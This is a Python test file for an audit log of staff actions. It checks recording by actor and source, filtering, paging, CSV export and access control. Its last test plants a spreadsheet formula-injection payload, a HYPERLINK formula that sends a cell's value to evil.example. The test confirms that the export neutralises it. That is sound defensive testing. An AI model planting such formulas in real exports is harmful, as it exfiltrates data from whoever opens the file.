"""The audit log of staff actions: written by the admin API (source api), the console (source console) and the
CLI, in the change's transaction; read through GET /v1/admin/audit (filters, pages, CSV) and /console/audit."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import secrets
from decimal import Decimal

from tests.api_fixtures import auth, new_partner, new_staff
from tests.settlement_fixtures import STANDARD_ORDERS, STANDARD_PARTNERS, past_cycle, seed_cycle, standard_statement


def _csrf(html: str) -> str:
    return re.search(r'name="csrf" value="([0-9a-f]+)"', html).group(1)


def test_admin_api_and_console_actions_are_audited_by_name(api_client, engine):
    operator = new_staff(engine, "operator")
    headers = auth(api_client, operator)
    tier = f"t-{secrets.token_hex(3)}"
    created = api_client.post("/v1/admin/pricing-rules", headers=headers,
                              json={"level": "partner", "partner_tier": tier, "markup_pct": "4"})
    assert created.status_code == 201, created.text
    rule_id = created.json()["id"]
    changed = api_client.patch(f"/v1/admin/pricing-rules/{rule_id}", headers=headers, json={"markup_pct": "5"})
    assert changed.status_code == 200

    # The same operator retires it on the page: the console is the source.
    api_client.post("/pricing/login", data={"username": operator.username, "password": operator.password})
    page = api_client.get("/pricing").text
    assert api_client.post(f"/pricing/rules/{rule_id}/retire", data={"csrf": _csrf(page)},
                           follow_redirects=False).status_code == 303

    listed = api_client.get(f"/v1/admin/audit?target=pricing_rule:{rule_id}", headers=headers)
    assert listed.status_code == 200, listed.text
    entries = listed.json()["items"]
    assert [(e["action"], e["actor"], e["actor_role"], e["source"]) for e in entries] == [
        ("pricing_rule.retire", operator.username, "operator", "console"),
        ("pricing_rule.update", operator.username, "operator", "api"),
        ("pricing_rule.create", operator.username, "operator", "api")]
    update = entries[1]
    assert update["before"]["markup_pct"] == "4.0000" or update["before"]["markup_pct"].startswith("4")
    assert update["after"]["markup_pct"].startswith("5")
    # The rule's own history and the audit log agree on who.
    history = api_client.get(f"/v1/admin/pricing-rules/{rule_id}/history", headers=headers).json()["versions"]
    assert {v["changed_by"] for v in history} == {operator.username}


def test_settlement_approval_is_audited_and_the_log_filters_pages_and_exports(api_client, engine):
    finance = new_staff(engine, "finance")
    headers = auth(api_client, finance)
    seeded = seed_cycle(engine, past_cycle(7), STANDARD_ORDERS, STANDARD_PARTNERS)
    uploaded = api_client.post(
        f"/v1/settlements/statements?supplier={seeded.supplier}&period_start={seeded.cycle.key}",
        content=standard_statement(seeded).encode(), headers={**headers, "Content-Type": "text/csv"})
    cycle_id = uploaded.json()["cycle"]["id"]
    discrepancy = api_client.get(f"/v1/settlements/cycles/{cycle_id}/discrepancies", headers=headers) \
        .json()["discrepancies"][0]
    assert api_client.post(f"/v1/settlements/discrepancies/{discrepancy['id']}/resolve", headers=headers,
                           json={"note": "agreed by phone"}).status_code == 200
    assert api_client.post(f"/v1/settlements/cycles/{cycle_id}/approve", headers=headers).status_code == 200

    mine = api_client.get(f"/v1/admin/audit?actor={finance.username}&action=settlement.", headers=headers).json()
    assert [(e["action"], e["target"]) for e in mine["items"]] == [
        ("settlement.approve", f"settlement_cycle:{cycle_id}"),
        ("settlement.resolve", f"discrepancy:{discrepancy['id']}")]
    assert mine["items"][1]["note"] == "agreed by phone"

    # Pages of one entry each, then nothing older.
    first = api_client.get(f"/v1/admin/audit?actor={finance.username}&limit=1", headers=headers).json()
    second = api_client.get(f"/v1/admin/audit?actor={finance.username}&limit=1&offset={first['next_offset']}",
                            headers=headers).json()
    assert first["items"][0]["action"] == "settlement.approve" and second["items"][0]["action"] == "settlement.resolve"
    assert second["next_offset"] is None
    today = dt.datetime.now(dt.UTC).date()
    dated = api_client.get(f"/v1/admin/audit?actor={finance.username}&from={today}&to={today}", headers=headers)
    assert len(dated.json()["items"]) == 2
    before = api_client.get(f"/v1/admin/audit?actor={finance.username}&to={today - dt.timedelta(days=1)}",
                            headers=headers)
    assert before.json()["items"] == []

    for exported in (api_client.get(f"/v1/admin/audit?actor={finance.username}&format=csv", headers=headers),
                     api_client.get(f"/v1/admin/audit?actor={finance.username}",
                                    headers={**headers, "Accept": "text/csv"})):
        assert exported.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(exported.text)))
        assert [r["action"] for r in rows] == ["settlement.approve", "settlement.resolve"]
        assert rows[0]["actor"] == finance.username and '"approved"' in rows[0]["after"]

    bad = api_client.get("/v1/admin/audit?from=2026-02-30", headers=headers)
    assert bad.status_code == 422 and bad.json()["error"]["field"] == "from"
    assert api_client.get("/v1/admin/audit?source=email", headers=headers).status_code == 422
    assert api_client.get("/v1/admin/audit", headers=auth(api_client, new_partner(engine))).status_code == 403
    assert api_client.get("/v1/admin/audit").status_code == 401


def test_console_audit_page_filters_paginates_and_exports(api_client, engine):
    from core import audit

    actor = audit.Actor(f"bulk-{secrets.token_hex(3)}", "operator", "cli")
    with engine.begin() as conn:
        for n in range(55):
            audit.record(conn, actor, "partner.credit_limit", f"partner:p{n}", {"limit": n}, {"limit": n + 1})
    assert 'id="login-form"' in api_client.get("/console/audit").text
    viewer = new_staff(engine, "finance")
    signed = api_client.post("/console/login", data={"username": viewer.username, "password": viewer.password,
                                                     "next": f"/console/audit?actor={actor.name}"})
    assert signed.status_code == 200 and signed.url.path == "/console/audit"
    first = signed.text
    assert first.count('data-action="partner.credit_limit"') == 50 and 'id="next-page"' in first
    assert "partner:p54" in first and "partner:p4<" not in first  # newest first
    older = api_client.get(f"/console/audit?actor={actor.name}&page=2").text
    assert older.count('data-action="partner.credit_limit"') == 5 and 'id="previous-page"' in older
    one = api_client.get(f"/console/audit?actor={actor.name}&target=partner:p7").text
    assert one.count("data-entry-id=") == 1 and '"limit": 8' in one
    wrong = api_client.get("/console/audit?from=yesterday")
    assert wrong.status_code == 200 and "from: &#39;yesterday&#39; is not a date" in wrong.text
    exported = api_client.get(f"/console/audit.csv?actor={actor.name}")
    assert exported.headers["content-type"].startswith("text/csv")
    assert len(list(csv.DictReader(io.StringIO(exported.text)))) == 55


def test_an_exported_cell_a_spreadsheet_would_run_is_written_as_text(api_client, engine):
    from core import audit
    from core.csv_export import safe_cell

    actor = audit.Actor(f"csv-{secrets.token_hex(3)}", "operator", "cli")
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    with engine.begin() as conn:
        audit.record(conn, actor, "order.reject", "@SUM(A1:A9)", None, {"credit": "-12.50"}, formula)
    viewer = new_staff(engine, "finance")
    api_client.post("/console/login", data={"username": viewer.username, "password": viewer.password,
                                            "next": "/console/audit"})
    [row] = csv.DictReader(io.StringIO(api_client.get(f"/console/audit.csv?actor={actor.name}").text))
    assert row["note"] == "'" + formula and row["target"] == "'@SUM(A1:A9)"
    assert json.loads(row["after"]) == {"credit": "-12.50"}  # a JSON cell starts with {: left as it is
    assert [safe_cell(v) for v in ("-12.50", "+3", "-", "+86 21 5555 0000", Decimal("-1"), 7)] == [
        "-12.50", "+3", "'-", "'+86 21 5555 0000", Decimal("-1"), 7]  # numbers stay numbers
